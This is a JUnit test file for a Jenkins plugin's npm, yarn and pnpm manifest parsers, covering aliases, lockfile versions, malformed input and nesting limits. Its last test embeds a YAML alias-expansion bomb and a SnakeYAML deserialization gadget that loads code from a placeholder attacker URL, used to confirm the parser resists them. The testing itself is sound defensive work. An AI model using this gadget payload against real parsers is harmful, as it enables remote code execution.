package io.jenkins.plugins.aigov.engine.dependencies;

import java.nio.charset.StandardCharsets;

import org.junit.jupiter.api.Test;

import static io.jenkins.plugins.aigov.engine.dependencies.Fixtures.at;
import static io.jenkins.plugins.aigov.engine.dependencies.Fixtures.named;
import static org.assertj.core.api.Assertions.assertThat;

class NpmManifestsTest {
    private static ManifestParseResult parse(final String path, final String text) {
        return Manifests.parse(path, text.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void shouldReadAllSectionsOfPackageJson() {
        ManifestParseResult result = Manifests.parse("package.json", Fixtures.bytes("valid-package.json"));

        Fixtures.assertMatches(result, "expected-package.json.txt");
        assertThat(result.isClean()).isTrue();
    }

    @Test
    void shouldResolveAliasesAndFlagNonRegistrySpecs() {
        ManifestParseResult result = Manifests.parse("package.json", Fixtures.bytes("valid-package.json"));

        Dependency alias = at(result, 14);
        assertThat(alias.name()).isEqualTo("string-width");
        assertThat(alias.version()).isEqualTo("^4.2.0");
        assertThat(alias.notes()).contains("alias string-width-cjs of string-width");
        assertThat(result.dependencies()).filteredOn(d -> !d.registry()).extracting(Dependency::name)
                .containsExactly("design-system", "local-utils", "forked-lib", "legacy-widget", "tarball-pkg");
    }

    @Test
    void shouldReadPackageLockV3() {
        ManifestParseResult result = Manifests.parse("package-lock.json", Fixtures.bytes("valid-package-lock.json"));

        Fixtures.assertMatches(result, "expected-package-lock.json.txt");
        Dependency debug = at(result, 31);
        assertThat(debug.kind()).isEqualTo(DependencyKind.TRANSITIVE_LOCKED);
        assertThat(debug.notes()).anyMatch(note -> note.startsWith("integrity sha512-"));
        assertThat(named(result, "string-width").notes()).contains("alias string-width-cjs of string-width");
    }

    @Test
    void shouldReadPackageLockV1WithANote() {
        ManifestParseResult result = Manifests.parse("package-lock.json",
                Fixtures.bytes("valid-package-lock-v1.json"));

        assertThat(Fixtures.describe(result)).containsExactly(
                "package-lock.json:7 LOCKED lodash 4.17.21 null registry",
                "package-lock.json:12 LOCKED request 2.88.2 null registry",
                "package-lock.json:18 TRANSITIVE_LOCKED qs 6.5.3 null registry");
        assertThat(at(result, 7).notes()).contains("lockfileVersion 1");
    }

    @Test
    void shouldReadClassicYarnLock() {
        ManifestParseResult result = Manifests.parse("yarn.lock", Fixtures.bytes("valid-yarn-v1.lock"));

        Fixtures.assertMatches(result, "expected-yarn-v1.lock.txt");
        assertThat(at(result, 23).notes()).contains("alias string-width-cjs of string-width");
    }

    @Test
    void shouldReadBerryYarnLock() {
        ManifestParseResult result = Manifests.parse("yarn.lock", Fixtures.bytes("valid-yarn-berry.lock"));

        Fixtures.assertMatches(result, "expected-yarn-berry.lock.txt");
        assertThat(named(result, "my-workspace").registry()).isFalse();
    }

    @Test
    void shouldReadPnpmLockV9() {
        ManifestParseResult result = Manifests.parse("pnpm-lock.yaml", Fixtures.bytes("valid-pnpm-lock-v9.yaml"));

        Fixtures.assertMatches(result, "expected-pnpm-lock-v9.yaml.txt");
        assertThat(at(result, 17).notes()).contains("alias strip-ansi-cjs of strip-ansi");
        assertThat(at(result, 14).version()).as("peer suffix dropped").isEqualTo("18.3.1");
    }

    @Test
    void shouldReadPnpmLockV6() {
        ManifestParseResult result = Manifests.parse("web/pnpm-lock.yaml",
                Fixtures.bytes("valid-pnpm-lock-v6.yaml"));

        assertThat(Fixtures.describe(result)).containsExactly(
                "web/pnpm-lock.yaml:4 LOCKED axios 1.6.8 dependencies registry",
                "web/pnpm-lock.yaml:9 LOCKED @types/jest 29.5.12 devDependencies registry",
                "web/pnpm-lock.yaml:21 TRANSITIVE_LOCKED follow-redirects 1.15.6 null registry");
    }

    @Test
    void shouldReportMalformedJsonWithItsLine() {
        ManifestParseResult result = parse("package.json", Fixtures.text("invalid-package.json"));

        assertThat(result.dependencies()).extracting(Dependency::name).containsExactly("express", "lodash");
        assertThat(result.problems()).singleElement().satisfies(problem -> {
            assertThat(problem.where()).as("the missing comma is found here").isEqualTo("package.json:6");
            assertThat(problem.message()).startsWith("malformed JSON");
        });
    }

    @Test
    void shouldReportMalformedYamlWithItsLine() {
        ManifestParseResult result = parse("pnpm-lock.yaml", Fixtures.text("invalid-pnpm-lock.yaml"));

        assertThat(result.problems()).singleElement().satisfies(problem -> {
            assertThat(problem.where()).startsWith("pnpm-lock.yaml:");
            assertThat(problem.where()).isNotEqualTo("pnpm-lock.yaml:1");
            assertThat(problem.message()).startsWith("malformed YAML");
        });
    }

    @Test
    void shouldStopAtDeepJsonNesting() {
        String deep = "{\"dependencies\": {\"a\": \"1\"}, \"x\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}";

        ManifestParseResult result = parse("package.json", deep);

        assertThat(result.dependencies()).extracting(Dependency::name).containsExactly("a");
        assertThat(result.problems()).singleElement()
                .satisfies(problem -> assertThat(problem.message()).contains("nesting"));
    }

    @Test
    void shouldStopAtDeepYamlNesting() {
        String deep = "lockfileVersion: '9.0'\npackages:\n  x: " + "[".repeat(50_000) + "]".repeat(50_000) + "\n";

        ManifestParseResult result = parse("pnpm-lock.yaml", deep);

        assertThat(result.problems()).first().satisfies(problem -> {
            assertThat(problem.where()).isEqualTo("pnpm-lock.yaml:3");
            assertThat(problem.message()).startsWith("malformed YAML").contains("nesting depth");
        });
    }

    @Test
    void shouldNeitherExpandYamlAliasesNorInstantiateTags() {
        StringBuilder yaml = new StringBuilder("lockfileVersion: '9.0'\nanchors:\n  a: &a [\"lol\",\"lol\",\"lol\"]\n");
        for (int i = 1; i < 10; i++) {
            yaml.append("  a").append(i).append(": &a").append(i).append(" [")
                    .append(("*a" + (i == 1 ? "" : String.valueOf(i - 1)) + ",").repeat(9)).append("*a")
                    .append("]\n");
        }
        yaml.append("packages:\n  evil@1.0.0: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://attacker.example.test/\"]]]]\n  good@2.0.0:\n    resolution: {}\n");

        ManifestParseResult result = parse("pnpm-lock.yaml", yaml.toString());

        assertThat(result.dependencies()).extracting(Dependency::name).contains("good");
    }
}
